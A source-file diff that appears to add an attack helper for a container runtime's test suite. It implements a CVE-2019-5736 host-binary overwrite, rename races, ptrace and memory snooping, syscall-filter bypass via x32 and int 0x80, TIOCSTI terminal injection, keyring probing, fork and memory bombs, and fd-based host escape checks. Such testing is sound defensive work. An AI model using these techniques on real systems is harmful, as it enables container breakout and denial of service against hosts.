@@ -1,0 +1,341 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * What a hostile container, or a hostile neighbour on the host, does to a runtime. One static program, built by the tests
+ * (runtime_bundle.attacker) and put into the root filesystem: attack VERB [ARGUMENT...]. Each verb prints what it got.
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <linux/sched.h>
+#include <signal.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+static double now(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+static void answer(const char *what, long r)
+{
+	printf("%s: %s\n", what, r < 0 ? strerrorname_np(errno) : "done");
+	fflush(stdout);
+}
+
+/* Exchanges two names as fast as it can, until it is killed: whatever is checked by name has changed when it is used. */
+static int swap(char **argv)
+{
+	for (;;)
+		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0 && errno != ENOENT)
+			return 1;
+}
+
+/* Calls fn for every process but this one, over and over, for so many seconds or until it says 1. */
+static int each_process(double seconds, int (*fn)(int pid, void *arg), void *arg)
+{
+	double end = now() + seconds;
+
+	while (now() < end) {
+		DIR *d = opendir("/proc");
+
+		for (struct dirent *de; d && (de = readdir(d));) {
+			int pid = atoi(de->d_name);
+
+			if (pid > 0 && pid != getpid() && fn(pid, arg) == 1) {
+				closedir(d);
+				return 1;
+			}
+		}
+		if (d)
+			closedir(d);
+	}
+	return 0;
+}
+
+/* True if the process runs a program that is not of this root filesystem. */
+static int is_foreign(int pid)
+{
+	char path[64], name[512];
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	n = readlink(path, name, sizeof(name) - 1);
+	if (n < 0)
+		return 0;
+	name[n] = '\0';
+	return strncmp(name, "/bin/", 5) != 0;
+}
+
+/* CVE-2019-5736: keeps the executable open for reading until nothing runs it, and then opens it again for writing. */
+static int overwrite(int pid, void *text)
+{
+	char path[64];
+	double end = now() + 2;
+	int fd, w = -1;
+
+	if (!is_foreign(pid))
+		return 0;
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (fd < 0)
+		return 0;
+	printf("caught\n");
+	fflush(stdout);
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	while (w < 0 && now() < end) {
+		w = open(path, O_WRONLY | O_CLOEXEC);
+		if (w < 0 && errno != ETXTBSY)
+			break;
+	}
+	answer("open for writing", w);
+	if (w >= 0 && write(w, text, strlen(text)) > 0)
+		printf("OVERWRITTEN\n");
+	fflush(stdout);
+	if (w >= 0)
+		close(w);
+	close(fd);
+	return w >= 0;
+}
+
+static int exe(char **argv)
+{
+	printf("looking\n");
+	fflush(stdout);
+	return each_process(atof(argv[1]), overwrite, argv[0]);
+}
+
+/* Looks into every new process: its descriptors, its memory; and takes hold of it, if it may. */
+static int pry(int pid, void *seen)
+{
+	char path[64], name[512], *known = seen;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	n = readlink(path, name, sizeof(name) - 1);
+	if (pid >= 65536 || (n < 0 && errno == ENOENT))
+		return 0;
+	if (n >= 0 && !is_foreign(pid))
+		return 0;
+	if (n >= 0)
+		printf("EXE %.*s\n", (int)n, name);
+	snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
+	n = readlink(path, name, sizeof(name) - 1);
+	if (n >= 0)
+		printf("FD 3 %.*s\n", (int)n, name);
+	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+	int fd = open(path, O_RDWR | O_CLOEXEC);
+	if (fd >= 0) {
+		printf("MEMORY of %d\n", pid);
+		close(fd);
+	}
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
+		printf("TRACED %d\n", pid);
+	else if (!known[pid])
+		answer("trace", -1);
+	known[pid] = 1;
+	fflush(stdout);
+	return 0;
+}
+
+static int spy(char **argv)
+{
+	static char seen[65536];
+
+	printf("looking\n");
+	fflush(stdout);
+	return each_process(atof(argv[0]), pry, seen);
+}
+
+/* Stops every new process before it can do anything. */
+static int stop(int pid, void *arg)
+{
+	(void)arg;
+	return is_foreign(pid) && kill(pid, SIGSTOP) == 0 ? 1 : 0;
+}
+
+static int stopper(char **argv)
+{
+	printf("looking\n");
+	fflush(stdout);
+	return each_process(atof(argv[0]), stop, NULL);
+}
+
+/* mkdir by the ways into the kernel that a filter for x86_64 might not look at. */
+static int calls(char **argv)
+{
+	const char *dir = argv[0];
+	long r;
+
+	errno = 0;
+	answer("native", syscall(SYS_mkdirat, AT_FDCWD, dir, 0700));
+	if (fork() == 0) {
+		answer("x32", syscall(0x40000000 | SYS_mkdirat, AT_FDCWD, dir, 0700));
+		_exit(0);
+	}
+	wait(NULL);
+	if (fork() == 0) {
+		/* 39 is mkdir there; the path must be below 4 GiB. */
+		char *low = (char *)syscall(SYS_mmap, 0x10000000, 4096, 3, 0x32, -1, 0);
+
+		strcpy(low, dir);
+		__asm__ volatile("int $0x80" : "=a"(r) : "a"(39), "b"(low), "c"(0700) : "memory");
+		errno = r < 0 ? (int)-r : 0;
+		answer("i386", r < 0 ? -1 : 0);
+		_exit(0);
+	}
+	wait(NULL);
+	return 0;
+}
+
+/* Types into the terminal that is our stdin, as if the user did. */
+static int type(char **argv)
+{
+	int r = 0;
+
+	for (const char *p = argv[0]; *p && r == 0; p++)
+		r = ioctl(0, TIOCSTI, p);
+	answer("TIOCSTI", r);
+	answer("open /dev/tty", open("/dev/tty", O_RDWR));
+	return 0;
+}
+
+/* Looks for a key in the session's keyring, and says which keyring that is. */
+static int keys(char **argv)
+{
+	long ring = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
+
+	printf("session %ld\n", ring);
+	answer("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0));
+	return 0;
+}
+
+/* Makes a session of its own, with a key in it, and executes something. */
+static int with_key(char **argv)
+{
+	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
+	    syscall(SYS_add_key, "user", argv[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
+		return 1;
+	execv(argv[1], argv + 1);
+	return 1;
+}
+
+static int fork_bomb(char **argv)
+{
+	int n = 0, tries = atoi(argv[0]);
+
+	for (int i = 0; i < tries; i++) {
+		pid_t pid = fork();
+
+		if (pid == 0)
+			for (;;)
+				pause();
+		n += pid > 0;
+	}
+	printf("%d\n", n);
+	fflush(stdout);
+	for (;;)
+		pause();
+	return 0;
+}
+
+static int memory_bomb(char **argv)
+{
+	size_t n = (size_t)atol(argv[0]) << 20;
+	char *p = malloc(n);
+
+	for (size_t i = 0; p && i < n; i += 4096)
+		p[i] = 1;
+	printf("had %zu\n", p ? n : 0);
+	return 0;
+}
+
+/* A process with this very pid, which waits to be killed. */
+static int as_pid(char **argv)
+{
+	pid_t want = atoi(argv[0]);
+	struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&want, .set_tid_size = 1};
+	long pid = syscall(SYS_clone3, &args, sizeof(args));
+
+	if (pid == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		for (;;)
+			pause();
+	}
+	answer("clone", pid);
+	if (pid < 0)
+		return 1;
+	int status, r = waitpid((pid_t)pid, &status, 0);
+	printf("%s\n", r == pid && WIFSIGNALED(status) ? "killed" : "ended");
+	return 0;
+}
+
+/* Directories in one another, as deep as asked. */
+static int nest(char **argv)
+{
+	if (chdir(argv[0]) < 0)
+		return 1;
+	for (int i = atoi(argv[1]); i > 0; i--)
+		if ((mkdir("d", 0755) < 0 && errno != EEXIST) || chdir("d") < 0) {
+			answer("nest", -1);
+			return 1;
+		}
+	return 0;
+}
+
+/* Which of the descriptors up to 64 are open, and whether a host's directory can be reached from one. */
+static int descriptors(char **argv)
+{
+	char up[256];
+
+	for (int fd = 0; fd < 64; fd++) {
+		if (fcntl(fd, F_GETFD) < 0)
+			continue;
+		snprintf(up, sizeof(up), "../../../../../../../../../../../..%s", argv[0]);
+		printf("%d%s\n", fd, faccessat(fd, up, F_OK, 0) == 0 ? " HOST" : "");
+	}
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	static const struct {
+		const char *verb;
+		int arguments;
+		int (*run)(char **argv);
+	} verbs[] = {
+	    {"swap", 2, swap},
+	    {"exe", 2, exe},
+	    {"spy", 1, spy},
+	    {"stop", 1, stopper},
+	    {"calls", 1, calls},
+	    {"type", 1, type},
+	    {"keys", 1, keys},
+	    {"with-key", 2, with_key},
+	    {"fork-bomb", 1, fork_bomb},
+	    {"memory-bomb", 1, memory_bomb},
+	    {"as-pid", 1, as_pid},
+	    {"nest", 2, nest},
+	    {"descriptors", 1, descriptors},
+	};
+
+	for (size_t i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
+		if (strcmp(verbs[i].verb, argv[1]) == 0 && argc >= 2 + verbs[i].arguments)
+			return verbs[i].run(argv + 2);
+	fprintf(stderr, "attack: unknown verb or too few arguments\n");
+	return 2;
+}
